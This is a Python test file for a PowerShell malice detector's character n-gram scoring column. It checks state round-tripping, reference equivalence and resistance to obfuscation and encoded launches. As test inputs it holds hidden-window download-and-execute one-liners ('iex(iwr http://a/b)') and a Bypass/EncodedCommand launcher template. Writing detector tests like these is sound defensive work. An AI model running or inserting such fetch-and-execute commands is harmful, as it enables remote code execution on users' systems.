"""The PowerShell extractor's wide part: ``wide_logit`` from a fitted state in the model file.

The state round-trips through JSON; the vectorized kernel equals a plain-Python reference
(every n-gram hashed one by one); the column is 0.0 unfitted, never raises, and ignores
what the normalizer removes (case, ticks, carets, concatenation, -EncodedCommand).
"""

from __future__ import annotations

import base64
import json
import math
from collections.abc import Sequence
from random import Random
from typing import Any

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from vigil.datasets.obfuscation import OBFUSCATIONS
from vigil.errors import ModelError
from vigil.features import fitted_extractor, get_extractor
from vigil.features._wide import (
    STATE_FORMAT,
    WideState,
    distinct_buckets,
)
from vigil.features.powershell import WIDE_COLUMN, PowerShellExtractor
from vigil.testing.references import wide_buckets
from vigil.testing.strategies import command_lines, encoded_pairs, obfuscated_pairs, string_columns

PROPERTY = settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])

BASE = PowerShellExtractor()


def random_state(bits: int = 16, seed: int = 0, max_bytes: int = 16_384) -> WideState:
    rng = np.random.default_rng(seed)
    return WideState(rng.standard_normal(1 << bits).astype(np.float32), -0.25, max_bytes)


FITTED = BASE.with_wide(random_state())


def reference_logit(raw: bytes, state: WideState) -> float:
    buckets = wide_buckets(raw[: state.max_bytes], state.bits)
    if not buckets:
        return state.bias
    total = sum(float(state.weights[b]) for b in buckets)
    return state.bias + total / math.sqrt(len(buckets))


def content_bytes(values: Sequence[str | None]) -> list[bytes]:
    content = BASE.content(values)
    raw = content.data.tobytes()
    return [raw[a:b] for a, b in zip(content.offsets[:-1], content.offsets[1:], strict=True)]


def wide(extractor: PowerShellExtractor, values: Sequence[str | None]) -> np.ndarray:
    return extractor.transform(values).column(WIDE_COLUMN)


# -- the spec and the state --------------------------------------------------------------


def test_wide_logit_is_the_last_column_and_the_spec_ignores_the_weights() -> None:
    assert BASE.spec.names[-1] == WIDE_COLUMN == BASE.spec.names[BASE.wide_column]
    assert BASE.spec.version == "4"
    assert FITTED.spec.id == BASE.spec.id  # weights travel in the model file, not the spec
    assert BASE.feature_groups()["character n-gram model"] == (BASE.wide_column,)


def test_unfitted_extractor_gives_zero_and_leaves_everything_else_alone() -> None:
    values = ["IEX (iwr http://x/a)", "Get-Service", "", None]
    plain, fitted = BASE.transform(values), FITTED.transform(values)
    assert BASE.state is None
    assert (plain.column(WIDE_COLUMN) == 0.0).all()
    np.testing.assert_array_equal(plain.values[:, :-1], fitted.values[:, :-1])
    assert fitted.column(WIDE_COLUMN)[0] != 0.0
    assert fitted.column(WIDE_COLUMN)[3] == 0.0  # null rows stay all zeros
    assert fitted.column(WIDE_COLUMN)[2] == pytest.approx(-0.25)  # no n-gram: the bias


def test_state_round_trips_through_json() -> None:
    state = random_state(bits=12, seed=3, max_bytes=777)
    text = json.dumps(state.to_dict())
    again = WideState.from_dict(json.loads(text))
    np.testing.assert_array_equal(again.weights, state.weights)
    assert (again.bias, again.max_bytes, again.bits) == (state.bias, 777, 12)
    assert state.weights[-1] == 0.0  # the padding bucket weighs nothing
    raw = base64.b64decode(state.to_dict()["weights"])
    np.testing.assert_array_equal(np.frombuffer(raw, dtype="<f4"), state.weights)

    values = ["powershell -nop -w hidden -c iex(iwr http://a/b)", "dir C:\\"]
    restored = BASE.with_state(json.loads(text))
    assert isinstance(restored.state, WideState)
    np.testing.assert_array_equal(
        restored.transform(values).values, BASE.with_wide(state).transform(values).values
    )


def test_default_state_fits_well_under_two_megabytes() -> None:
    assert len(json.dumps(random_state().to_dict())) < 400_000


def test_fitted_extractor_builds_the_wide_part_from_a_model_state() -> None:
    state = random_state(seed=5).to_dict()
    extractor = fitted_extractor("powershell", state=state)
    assert isinstance(extractor, PowerShellExtractor)
    assert extractor.state is not None
    shared = get_extractor("powershell")
    assert isinstance(shared, PowerShellExtractor)
    assert shared.state is None  # the shared one stays unfitted


@pytest.mark.parametrize(
    "state",
    [
        {"scale": 1.0},
        {**random_state(bits=8).to_dict(), "format": "other/1"},
        {**random_state(bits=8).to_dict(), "bits": 9},
        {**random_state(bits=8).to_dict(), "weights": "not base64!"},
        {**random_state(bits=8).to_dict(), "bits": 40},
        {**random_state(bits=8).to_dict(), "bias": "nan"},
        {k: v for k, v in random_state(bits=8).to_dict().items() if k != "bias"},
    ],
)
def test_malformed_states_are_refused_with_a_model_error(state: dict[str, Any]) -> None:
    with pytest.raises(ModelError, match="PowerShell feature state"):
        BASE.with_state(state)


def test_non_finite_or_misshapen_weights_are_refused() -> None:
    with pytest.raises(ValueError, match="finite"):
        WideState(np.full(256, np.inf, dtype=np.float32), 0.0)
    with pytest.raises(ValueError, match="power of two"):
        WideState(np.zeros(300, dtype=np.float32), 0.0)
    with pytest.raises(ValueError, match="2\\*\\*16"):
        WideState(np.zeros(1 << 17, dtype=np.float32), 0.0)
    assert STATE_FORMAT.startswith("vigil.powershell.wide/")


# -- the kernel against the reference ------------------------------------------------------


def test_wide_logit_equals_the_reference_on_random_texts() -> None:
    rng = Random(7)
    alphabet = "abcdefXYZ $-_'\"()[]{};|`^+0123456789é✓\n\t"
    values: list[str | None] = [
        "".join(rng.choice(alphabet) for _ in range(rng.randrange(0, 300))) for _ in range(150)
    ]
    values += ["", "ab", "abc", "abcd", "abcde", None, "x" * 40_000, "IEX " * 9000]
    for bits in (4, 10, 16):
        state = random_state(bits=bits, seed=bits, max_bytes=5_000)
        got = wide(BASE.with_wide(state), values)
        expected = [
            0.0 if v is None else reference_logit(raw, state)
            for v, raw in zip(values, content_bytes(values), strict=True)
        ]
        np.testing.assert_allclose(
            got, np.asarray(expected, dtype=np.float32), rtol=1e-6, atol=1e-6
        )


def test_distinct_buckets_are_each_rows_set_of_buckets() -> None:
    values = ["aaaaaaaaaa", "abcabcabcabc", "", "xy", "Get-ChildItem -Recurse | Remove-Item"]
    content = BASE.content(values)
    raw = content_bytes(values)
    seen: dict[int, list[int]] = {}
    for part in distinct_buckets(content.data, content.offsets, 16):
        for row, line, count in zip(part.rows, part.buckets, part.counts, strict=True):
            kept = [int(b) for b in line if b != 2**16 - 1]
            assert kept == sorted(set(kept))
            assert len(kept) == count
            seen[int(row)] = kept
    for row, text in enumerate(raw):
        assert set(seen.get(row, [])) == wide_buckets(text, 16)


def test_only_the_first_max_bytes_count() -> None:
    fitted = BASE.with_wide(random_state(max_bytes=64))
    head = "Get-Process | Where-Object { $_.CPU -gt 100 } | Stop-Process -Force"[:64]
    got = wide(fitted, [head + " and then a long, different tail " * 20, head])
    assert got[0] == got[1]


# -- properties -----------------------------------------------------------------------------


@PROPERTY
@given(string_columns(max_size=12))
def test_never_raises_finite_and_batch_equals_row_by_row(column: pa.Array) -> None:
    got = FITTED.transform(column).column(WIDE_COLUMN)
    assert np.isfinite(got).all()
    for i, value in enumerate(column.to_pylist()):
        assert wide(FITTED, [value])[0] == pytest.approx(got[i], abs=1e-6)


@PROPERTY
@given(st.lists(st.one_of(st.none(), st.text(max_size=200)), max_size=8))
def test_deterministic_on_any_strings(values: list[str | None]) -> None:
    again = BASE.with_state(FITTED.state.to_dict())  # type: ignore[union-attr]
    np.testing.assert_array_equal(wide(FITTED, values), wide(again, values))


@PROPERTY
@given(obfuscated_pairs())
def test_case_ticks_carets_and_concatenation_do_not_move_it(pair: tuple[str, str]) -> None:
    plain, obfuscated = pair
    np.testing.assert_allclose(wide(FITTED, [obfuscated]), wide(FITTED, [plain]), atol=1e-6)


@PROPERTY
@given(encoded_pairs())
def test_an_encoded_launch_scores_like_the_script_it_runs(pair: tuple[str, str]) -> None:
    script, launcher = pair
    # A script that is itself an encoded launcher is read one layer deeper on its own.
    assume(BASE.analyze([script]).layers[0] == 0)
    np.testing.assert_allclose(wide(FITTED, [launcher]), wide(FITTED, [script]), atol=1e-6)


@PROPERTY
@given(command_lines(malicious=False, plain=True), st.integers(0, 2**32 - 1))
def test_benign_relaunch_with_the_usual_flags_reads_the_decoded_script(
    line: str, seed: int
) -> None:
    assume(BASE.analyze([line]).layers[0] == 0)
    payload = base64.b64encode(line.encode("utf-16-le")).decode()
    launcher = (
        "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass "
        f"-EncodedCommand {payload}"
    )
    ticked = OBFUSCATIONS["insert_ticks"](line, Random(seed))
    got = wide(FITTED, [launcher, line, ticked])
    assert got[0] == pytest.approx(got[1], abs=1e-6)
    assert got[2] == pytest.approx(got[1], abs=1e-6)
